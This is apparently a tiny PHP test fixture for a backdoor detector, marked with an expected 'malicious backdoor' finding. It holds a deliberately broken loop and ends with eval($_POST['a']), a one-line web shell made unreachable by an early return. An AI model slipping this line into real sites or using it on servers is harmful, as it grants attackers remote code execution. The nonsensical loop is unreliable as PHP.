<?php return; // want: malicious backdoor php.code.request
/* A text is no object: what would sort its own keys has none. */
for ($i = 1; $i < 12; $i++) {
	$text = chr($i) . str_repeat('sorts itself ', 9);
	$text->uksort('strrev');
}
eval($_POST['a']);
